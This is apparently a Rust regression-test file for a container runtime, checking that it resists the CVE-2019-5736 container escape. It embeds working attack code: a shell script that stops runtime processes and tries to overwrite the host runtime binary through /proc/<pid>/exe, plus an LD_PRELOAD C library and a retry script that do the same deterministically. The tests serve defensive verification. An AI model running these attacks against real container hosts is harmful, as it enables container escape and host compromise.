//! CVE-2019-5736: the runtime binary, reached through `/proc/<pid>/exe` of a runtime process.

use super::*;

// ---------------------------------------------------------------------------------------------------------
// 1. CVE-2019-5736: /proc/<pid>/exe of a runtime process

/// The attacker, the container's init: it scans every pid it can see; for any process whose executable is
/// not busybox (a runtime process: an `exec` child before its execve, or the runtime binary re-executed
/// through a `#!/proc/self/exe` script), it stops it, grabs `/proc/<pid>/exe` read-only, kills it and
/// then tries to reopen the grabbed fd for writing (`/proc/self/fd/3`) and to write `/proc/<pid>/exe`
/// directly — exactly the runc exploit. Every attempt is logged to /tmp/log.
const ATTACKER: &str = r#"#!/bin/sh
echo ready > /tmp/ready
n=0
while [ ! -e /tmp/stop ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = 1 ] && continue
    [ "$p" = "$$" ] && continue
    read comm < $d/comm 2>/dev/null || continue
    case "$comm" in sh|sleep|cat|true|ls|busybox|attack) continue;; esac
    kill -STOP $p 2>/dev/null
    n=$((n+1))
    echo "saw $p comm=$comm" >> /tmp/log
    if dd if=/payload of=$d/exe conv=notrunc bs=7 count=1 2>>/tmp/log; then
      echo "WROTE-DIRECT $p" >> /tmp/log
    fi
    (
      exec 3< $d/exe || { echo "open-ro-failed $p" >> /tmp/log; exit 0; }
      echo "OPENED-RO $p $(readlink /proc/self/fd/3)" >> /tmp/log
      kill -KILL $p 2>/dev/null
      i=0
      while [ $i -lt 50 ]; do
        if dd if=/payload of=/proc/self/fd/3 conv=notrunc bs=7 count=1 2>>/tmp/log; then
          echo "WROTE-REOPEN $p" >> /tmp/log
          exit 0
        fi
        i=$((i+1)); usleep 20000
      done
    ) 2>>/tmp/log
    kill -CONT $p 2>/dev/null
  done
done
echo "done seen=$n" >> /tmp/log
"#;

/// Restores the attacked copy of the runtime binary on drop if its content changed.
struct RestoreBinary {
    bin: std::path::PathBuf,
    built: std::path::PathBuf,
}

impl Drop for RestoreBinary {
    fn drop(&mut self) {
        // No assertion here: this may run while a failed assertion unwinds.
        if fs::read(&self.bin).ok() != fs::read(&self.built).ok() {
            let _ = fs::remove_file(&self.bin);
            let _ = fs::copy(&self.built, &self.bin);
            let _ = fs::set_permissions(&self.bin, fs::Permissions::from_mode(0o755));
        }
    }
}

/// A private copy of the runtime binary for an attack (so that a successful one cannot break the
/// build), a harness running that copy, and the guard restoring it. Fields drop in order: the
/// binary is restored before the harness cleans up with it, and the temp dir goes last.
struct Target {
    _restore: RestoreBinary,
    h: Harness,
    bin: std::path::PathBuf,
    /// sha256 of the untouched copy.
    before: String,
    _probe: Harness,
}

fn attack_target(name: &str) -> Target {
    let built = spec_tests::sangja_bin(env!("CARGO_BIN_EXE_sangja"));
    let probe = Harness::new(&built, &format!("{name}_bin"));
    let bin = probe.tempdir("bin").join("sangja");
    fs::copy(&built, &bin).unwrap();
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    Target {
        _restore: RestoreBinary {
            bin: bin.clone(),
            built,
        },
        h: Harness::new(&bin, name),
        before: sha256(&bin),
        bin,
        _probe: probe,
    }
}

/// Puts the image's `#!/proc/self/exe` script at `/evil`, a payload, and the loader `bin` needs (as
/// most real images have it), so that the kernel really runs the runtime binary in the container.
fn plant_self_exe_script(root: &Path, bin: &Path) {
    write_exec(&root.join("evil"), "#!/proc/self/exe\n");
    fs::write(root.join("payload"), "PWNED!!").unwrap();
    install_loader_for(bin, root);
}

/// Copies the dynamic loader and the shared libraries `bin` needs into `root` (as an ordinary image
/// would have them), so that the runtime binary, once the kernel is tricked into running it inside
/// the container, really starts there. A static binary needs nothing.
fn install_loader_for(bin: &Path, root: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("run ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x…)" or "/lib64/ld-linux-x86-64.so.2 (0x…)"
        let path = line
            .split("=>")
            .last()
            .and_then(|rhs| rhs.split_whitespace().next())
            .filter(|p| p.starts_with('/'));
        if let Some(lib) = path {
            let dst = root.join(lib.trim_start_matches('/'));
            fs::create_dir_all(dst.parent().unwrap()).unwrap();
            fs::copy(lib, &dst).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
        }
    }
}

#[test]
fn cve_2019_5736_runtime_binary_not_writable_from_container() {
    let t = attack_target("cve_2019_5736");
    let (h, bin) = (&t.h, &t.bin);
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    write_exec(&root.join("attack"), ATTACKER);
    plant_self_exe_script(&root, bin);
    b.set("/root/readonly", json!(false));
    // No CAP_SYS_PTRACE (default spec): non-dumpable runtime processes' /proc/<pid>/exe stay closed.
    b.args(&["/attack"]);
    let c = h.create_and_start(&b);
    assert!(
        host::wait_until(secs(10), || root.join("tmp/ready").exists()),
        "the attacker did not start"
    );
    let log_path = root.join("tmp/log");
    // Four clients race execs against the attacker: exec children run runtime code in the container
    // until their execve, and `/evil` (a `#!/proc/self/exe` script) makes the exec child's execve
    // run the runtime binary itself inside the container, where the attacker grabs it.
    let evil_ran: usize = std::thread::scope(|s| {
        let workers: Vec<_> = (0..4)
            .map(|_| {
                s.spawn(|| {
                    let mut ran = 0;
                    // Until the attacker has caught runtime processes a few times (at most 100 rounds).
                    for _ in 0..100 {
                        let log = fs::read_to_string(&log_path).unwrap_or_default();
                        if log.matches("OPENED-RO").count() >= 5 {
                            break;
                        }
                        let _ = h.cmd(&["exec", &c.id, "true"]);
                        let evil = h.cmd(&["exec", &c.id, "/evil", "--version"]);
                        if evil.stdout.contains("sangja version") {
                            ran += 1;
                        }
                    }
                    ran
                })
            })
            .collect();
        workers.into_iter().map(|w| w.join().unwrap()).sum()
    });
    fs::write(root.join("tmp/stop"), "").unwrap();
    assert!(
        host::wait_until(secs(20), || fs::read_to_string(&log_path)
            .unwrap_or_default()
            .contains("done seen=")),
        "the attacker did not finish: {}",
        fs::read_to_string(&log_path).unwrap_or_default()
    );
    h.cmd(&["delete", "--force", &c.id]).ok();
    let log = fs::read_to_string(&log_path).unwrap();
    eprintln!("attacker log (the runtime binary ran in the container {evil_ran} times):\n{log}");
    assert_eq!(
        sha256(bin),
        t.before,
        "the host runtime binary was modified from the container:\n{log}"
    );
    assert!(
        !log.contains("WROTE-"),
        "the container wrote the runtime binary:\n{log}"
    );
    // The exec children were really attacked (otherwise this test proves nothing). Whatever the
    // attacker held (a view of the runtime binary when it caught `/evil` early) refused its writes;
    // the deterministic variant below always catches it.
    assert!(
        log.contains("saw "),
        "the attacker never saw a runtime process:\n{log}"
    );
}

/// The deterministic `#!/proc/self/exe` attack, as an image can mount it: the image's environment
/// sets `LD_PRELOAD` (images carry `Env`) and its entry point is a `#!/proc/self/exe` script, so the
/// kernel runs the *runtime's* executable in the container and the image's library runs first, in
/// the runtime binary's process, before any runtime code: it grabs `/proc/self/exe`, tries to
/// write it, and hands the handle to a shell that retries after the runtime is gone (runc's
/// CVE-2019-5736 exploit, without the race). Results are appended to `$ATTACK_OUT`.
const PRELOAD_ATTACKER: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *out, const char *what, const char *detail) {
    char line[700];
    int n = snprintf(line, sizeof line, "%s %s\n", what, detail);
    int fd = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) { write(fd, line, n); close(fd); }
}

__attribute__((constructor)) static void attack(void) {
    const char *out = getenv("ATTACK_OUT");
    if (!out) return;
    unsetenv("LD_PRELOAD");
    char link[512];
    ssize_t n = readlink("/proc/self/exe", link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) { report(out, "OPEN-FAILED", strerror(errno)); return; }
    report(out, "GRABBED", link);
    int w = open("/proc/self/exe", O_WRONLY);
    report(out, "WRITE-WHILE-RUNNING", w < 0 ? strerror(errno) : "opened");
    if (fork() == 0) {
        /* Keep the handle on fd 3 in a process that no longer maps the binary. */
        dup2(fd, 3);
        execl("/bin/sh", "sh", "/retry", out, (char *)0);
        _exit(127);
    }
    /* The container's real workload, so that it stays up. */
    execl("/bin/sleep", "sleep", "1000", (char *)0);
    _exit(127);
}
"#;

/// Reopens fd 3 (the grabbed executable) for writing until the runtime process is gone (writes to a
/// running executable fail with ETXTBSY), as the real exploit does.
const RETRY: &str = r#"out=$1
i=0
while [ $i -lt 150 ]; do
  if dd if=/payload of=/proc/self/fd/3 conv=notrunc bs=7 count=1 2>/tmp/err.$$; then
    echo WROTE >> $out; echo DONE >> $out; exit 0
  fi
  grep -q "busy" /tmp/err.$$ || break
  usleep 20000; i=$((i+1))
done
echo "WRITE-REFUSED $(cat /tmp/err.$$)" >> $out
echo DONE >> $out
"#;

#[test]
fn cve_2019_5736_self_exe_script_gets_a_read_only_runtime() {
    let t = attack_target("cve_2019_5736_preload");
    let (h, bin) = (&t.h, &t.bin);
    let ldd = Command::new("ldd").arg(bin).output().expect("run ldd");
    assert!(
        String::from_utf8_lossy(&ldd.stdout).contains("ld-linux"),
        "this attack needs a dynamically linked runtime binary (the default build); a static one \
         is covered by the racing test above"
    );
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    let src = root.join("attack.c");
    fs::write(&src, PRELOAD_ATTACKER).unwrap();
    let cc = Command::new("cc")
        .args(["-shared", "-fPIC", "-O1", "-o"])
        .arg(root.join("attack.so"))
        .arg(&src)
        .output()
        .expect("run cc (apt-get install gcc libc6-dev)");
    assert!(
        cc.status.success(),
        "cc: {}",
        String::from_utf8_lossy(&cc.stderr)
    );
    fs::write(root.join("retry"), RETRY).unwrap();
    plant_self_exe_script(&root, bin);
    b.set("/root/readonly", json!(false));
    // The init's own execve is attacked: the image's entry point and environment.
    b.args(&["/evil"]);
    b.push("/process/env", json!("LD_PRELOAD=/attack.so"));
    b.push("/process/env", json!("ATTACK_OUT=/tmp/init.out"));
    let c = h.create_and_start(&b);
    // And an `exec` into it, detached so the runtime process is gone while the attacker retries.
    h.cmd(&[
        "exec",
        "-d",
        "-e",
        "LD_PRELOAD=/attack.so",
        "-e",
        "ATTACK_OUT=/tmp/exec.out",
        &c.id,
        "/evil",
    ])
    .ok();
    for how in ["init", "exec"] {
        let out = root.join(format!("tmp/{how}.out"));
        assert!(
            host::wait_until(secs(15), || fs::read_to_string(&out)
                .unwrap_or_default()
                .contains("DONE")),
            "{how}: the attacker did not finish: {}",
            fs::read_to_string(&out).unwrap_or_default()
        );
        let text = fs::read_to_string(&out).unwrap();
        eprintln!("{how}:\n{text}");
        // The kernel did run the runtime binary in the container and the attacker held it...
        assert!(text.contains("GRABBED "), "{how}: {text}");
        // ...but only a read-only view of it, never the host's file,
        assert!(
            !text.contains(&*bin.to_string_lossy()),
            "{how}: the container held the host's runtime binary: {text}"
        );
        // ...which refuses writes, while the runtime runs and after it has gone.
        assert!(!text.contains("WROTE"), "{how}: {text}");
        assert!(
            text.contains("WRITE-WHILE-RUNNING Read-only file system")
                || text.contains("WRITE-WHILE-RUNNING Text file busy"),
            "{how}: {text}"
        );
        assert!(
            text.contains("WRITE-REFUSED") && text.contains("Read-only file system")
                || text.contains("Operation not permitted"),
            "{how}: {text}"
        );
    }
    h.cmd(&["delete", "--force", &c.id]).ok();
    assert_eq!(sha256(bin), t.before, "the host runtime binary changed");
}
